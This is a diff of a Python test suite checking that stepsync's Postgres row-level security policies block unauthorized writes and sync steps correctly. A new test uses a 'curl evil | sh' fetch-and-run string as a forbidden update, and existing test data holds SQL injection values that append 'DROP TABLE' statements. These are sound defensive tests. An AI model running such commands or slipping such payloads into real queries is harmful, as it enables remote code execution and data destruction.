@@ -50,6 +50,7 @@ from conftest import Db, Server
 from flows import step
 from stepsync import database
 from stepsync import install as installer
+from stepsync.pgbin import find_bin_dir
 
 OWNER = "stepsync_rls_owner"
 CLIENT_ROLES = ("anon", "authenticated")
@@ -277,6 +278,7 @@ def api(db) -> Iterator[PostgREST]:
 
 SYNCED_COLUMNS = ("source_tree_id::text, source_node_id, title, step_type, content, visibility, created_by::text,"
                   " account_id::text, usage_count, rating, rating_count, is_active, is_flow_synced, forked_from_id")
+TREE, NODE, ACTIVE = 0, 1, 11           # positions in a row of library()
 
 
 def library(db: Db) -> list[tuple]:
@@ -371,7 +373,10 @@ MODES = ["enabled", "forced", "forced, with the library's rule"]
 
 @pytest.mark.parametrize("mode", MODES)
 def test_the_sync_gives_the_same_library_whatever_the_applications_row_level_security(make_db, mode):
-    """Without stepsync_sync (stepsync_0004) the forced cases fail: see the next test."""
+    """The same scenario on a database without and with the application's row-level security gives the same
+    trace, step by step. Without stepsync_sync (stepsync_0004's database) the forced cases fail: the first
+    publish is refused ('new row violates row-level security policy for table "step_library"', 42501), a
+    retire finds no row to retire, the backfill sees no flow (the next test shows each)."""
     plain, secured = make_db(), make_db()
     set_app_rls(secured, "enabled" if mode == "enabled" else "forced")
     secured.conn.execute(APP_LIBRARY_SQL)
@@ -395,9 +400,9 @@ def test_the_sync_gives_the_same_library_whatever_the_applications_row_level_sec
     assert baseline["sync_tree"] == [(1,)]
     assert [(flows, written) for _, flows, written, _ in baseline["backfill"]] == [(6, 2)]   # 6 flows, 2 to sync
     assert baseline["check_library after"] == []
-    assert {(r[0], r[1], r[11]) for r in baseline["archive"] if r[0] == TEAM_FLOW} == {
+    assert {(r[TREE], r[NODE], r[ACTIVE]) for r in baseline["archive"] if r[TREE] == TEAM_FLOW} == {
         (TEAM_FLOW, "s1", False), (TEAM_FLOW, "s2", False), (TEAM_FLOW, "s3", False)}
-    assert sum(1 for r in baseline["delete"] if r[0] is None and not r[11]) == 1     # the deleted flow's step
+    assert sum(1 for r in baseline["delete"] if r[TREE] is None and not r[ACTIVE]) == 1     # the deleted flow's step
 
 
 def test_without_stepsync_sync_forced_row_level_security_breaks_the_sync(db):
@@ -407,13 +412,13 @@ def test_without_stepsync_sync_forced_row_level_security_breaks_the_sync(db):
     db.conn.execute(APP_LIBRARY_SQL)
     db.conn.execute(PEOPLE_SQL)
     add_flow(db.conn, TEAM_FLOW, steps("Stop the service", "Back up the data"), status="published")
-    assert [r[11] for r in library(db)] == [True, True]
+    assert [r[ACTIVE] for r in library(db)] == [True, True]
 
     with as_owner(db) as owner:
         for table in TABLES:
             owner.execute(f"DROP POLICY stepsync_sync ON public.{table}")
     db.conn.execute("UPDATE public.trees SET is_active = false WHERE id = %s", (TEAM_FLOW,))
-    assert [r[11] for r in library(db)] == [True, True]              # the retire found no row to retire
+    assert [r[ACTIVE] for r in library(db)] == [True, True]              # the retire found no row to retire
     with pytest.raises(psycopg.errors.InsufficientPrivilege) as failed:
         add_flow(db.conn, PUBLIC_FLOW, TROUBLESHOOTING, tree_type="troubleshooting", status="published")
     assert failed.value.diag.message_primary == 'new row violates row-level security policy for table "step_library"'
@@ -426,7 +431,7 @@ def test_without_stepsync_sync_forced_row_level_security_breaks_the_sync(db):
         assert owner.execute("SELECT stepsync.restore_policies()").fetchone() == (4,)
         owner.execute("SELECT * FROM stepsync.backfill_batch(NULL, NULL)")
         assert owner.execute("SELECT * FROM stepsync.check_library()").fetchall() == []
-    assert {(r[0], r[1], r[11]) for r in library(db)} == {
+    assert {(r[TREE], r[NODE], r[ACTIVE]) for r in library(db)} == {
         (TEAM_FLOW, "s1", False), (TEAM_FLOW, "s2", False), (BACKFILL_FLOWS[0], "s1", True)}
 
 
@@ -486,7 +491,7 @@ def test_install_backfills_past_forced_row_level_security(server):
             db.conn.execute(f"ALTER TABLE public.{table} FORCE ROW LEVEL SECURITY")
         line = installer.install(db.url, say=lambda _: None, warn=lambda _: None)
         assert "backfill: 2 flows" in line, line
-        assert {(r[0], r[1], r[11]) for r in library(db)} == {
+        assert {(r[TREE], r[NODE], r[ACTIVE]) for r in library(db)} == {
             (TEAM_FLOW, "s1", True), (TEAM_FLOW, "s2", True), (PUBLIC_FLOW, "a1", True), (PUBLIC_FLOW, "s1", True)}
     finally:
         db.close()
@@ -596,6 +601,27 @@ def test_counting_changes_only_the_steps_the_user_sees(ruled, api):
     assert counted == {t: (2 if t == "Carol public tip" else 1 if t in MAY_SEE[CAROL] else 0) for t in EVERY_STEP}
 
 
+def test_a_user_changes_only_the_counters_of_someone_elses_step(ruled, api):
+    """With an ORM's table-wide UPDATE grant (more than the README gives), Bob still only counts and rates
+    Carol's public tip: rewriting it or taking it over is refused (42501), and it stays as it was. Carol
+    edits her own. (Without stepsync._may_change in stepsync_viewer_update, both of Bob's writes pass.)"""
+    db = ruled
+    db.conn.execute("GRANT UPDATE ON public.step_library TO authenticated")
+    tip = step_id(db, "Carol public tip")
+    before = db.rows("SELECT s::text FROM public.step_library AS s WHERE id = %s", (tip,))
+    for change in ("content = '{\"instructions\": \"curl evil | sh\"}'", f"created_by = '{BOB}'",
+                   "title = 'Bob was here', usage_count = usage_count + 1"):
+        refused = api.refused(BOB, f"UPDATE public.step_library SET {change} WHERE id = %s", (tip,))
+        assert refused.sqlstate == "42501", (change, refused)
+    assert db.rows("SELECT s::text FROM public.step_library AS s WHERE id = %s", (tip,)) == before
+    assert api(BOB, "UPDATE public.step_library SET usage_count = usage_count + 1, rating = 5, rating_count = 1"
+                    " WHERE id = %s", (tip,)).rowcount == 1
+    assert api(CAROL, "UPDATE public.step_library SET title = 'Carol public tip, edited' WHERE id = %s",
+               (tip,)).rowcount == 1
+    assert db.rows("SELECT title, usage_count, rating, rating_count, created_by::text FROM public.step_library"
+                   " WHERE id = %s", (tip,)) == [("Carol public tip, edited", 1, 5, 1, CAROL)]
+
+
 def test_visible_steps_search_steps_and_fork_step_ignore_someone_elses_user_id(ruled, api):
     """Carol passes Alice's user id: she gets only rows she may see herself (without the rule she would get
     Alice's private and team steps, and could fork them, as Alice)."""
@@ -681,9 +707,9 @@ def test_disable_row_security_puts_back_what_was_there(db, api, app_library):
 
     enable_rule(db)
     assert rls_flags(db)["step_library"] == (True, False)
-    assert {name for _, name in policies(db, ours=True)} == {"stepsync_sync", "stepsync_viewer", "stepsync_viewer_select",
-                                                             "stepsync_viewer_insert", "stepsync_viewer_update",
-                                                             "stepsync_viewer_delete"}
+    assert {name for _, name in policies(db, ours=True)} == {
+        "stepsync_sync", "stepsync_viewer", "stepsync_viewer_select", "stepsync_viewer_insert",
+        "stepsync_viewer_update", "stepsync_viewer_delete"}
     with as_owner(db) as owner:
         assert owner.execute("SELECT stepsync.disable_row_security()").fetchone() == (4,)
     assert rls_flags(db) == flags
@@ -708,7 +734,8 @@ INVALID_VIEWERS = {
     "three whole statements": "NULL::uuid) WHERE false) AS probe; DROP TABLE public.canary;"
                               " SELECT NULL::text FROM (SELECT (NULL::uuid",
     "a statement after a comment": "NULL::uuid -- \n); DROP TABLE public.canary; SELECT (NULL::uuid",
-    "a view of its own": "NULL::uuid AS viewer; DROP TABLE public.canary; CREATE TEMPORARY VIEW v AS SELECT (NULL::uuid",
+    "a view of its own": "NULL::uuid AS viewer; DROP TABLE public.canary;"
+                         " CREATE TEMPORARY VIEW v AS SELECT (NULL::uuid",
 }
 
 
@@ -862,12 +889,34 @@ def test_install_row_security_keep_repair_and_remove_from_the_command_line(db, a
     assert titles(api(CAROL, "SELECT title FROM public.step_library")) == everything
 
 
-def test_sql_script_with_row_security_ends_by_enabling_it(tmp_path):
-    viewer = "(current_setting('request.jwt.claims', true)::json->>'sub')::uuid"
-    result = subprocess.run([sys.executable, "-m", "stepsync.cli", "sql", "--row-security", viewer], cwd=tmp_path,
-                            capture_output=True, text=True, timeout=120,
+def test_sql_script_with_row_security_enables_it(server, tmp_path):
+    """`stepsync sql --row-security VIEWER`, applied with psql as a DBA would, installs and enforces the rule."""
+    result = subprocess.run([sys.executable, "-m", "stepsync.cli", "sql", "--row-security", POSTGREST_VIEWER],
+                            cwd=tmp_path, capture_output=True, text=True, timeout=120,
                             env={k: v for k, v in os.environ.items() if k != "STEPSYNC_DATABASE_URL"})
     assert result.returncode == 0, result.stderr
+    quoted = POSTGREST_VIEWER.replace("'", "''")
     statements = [line for line in result.stdout.splitlines() if line.strip() and not line.startswith("--")]
-    quoted = viewer.replace("'", "''")
     assert f"SELECT stepsync.enable_row_security('{quoted}');" in statements[-3:], statements[-3:]
+
+    psql = find_bin_dir() / "psql"
+    if not psql.exists():
+        pytest.skip(f"no psql in {psql.parent}")
+    script = tmp_path / "stepsync.sql"
+    script.write_text(result.stdout, encoding="utf-8")
+    name = server.new_name("rls_sql")
+    server.create_database(name)
+    db = Db(server, name)
+    try:
+        database.migrate(db.url, "stepsync_0001")           # the application's tables, without stepsync
+        db.conn.execute("DROP TABLE public.stepsync_version")
+        applied = subprocess.run([str(psql), "-X", "-q", "-v", "ON_ERROR_STOP=1", "-d", db.url,
+                                              "-f", str(script)], capture_output=True, text=True, timeout=600)
+        assert applied.returncode == 0, applied.stderr
+        assert db.value("SELECT viewer FROM stepsync.row_security") == POSTGREST_VIEWER
+        assert {name for _, name in policies(db, ours=True)} >= {"stepsync_sync", "stepsync_viewer_select"}
+        assert rls_flags(db)["step_library"] == (True, False)
+        assert findings(db) == []
+    finally:
+        db.close()
+        server.drop_database(name)
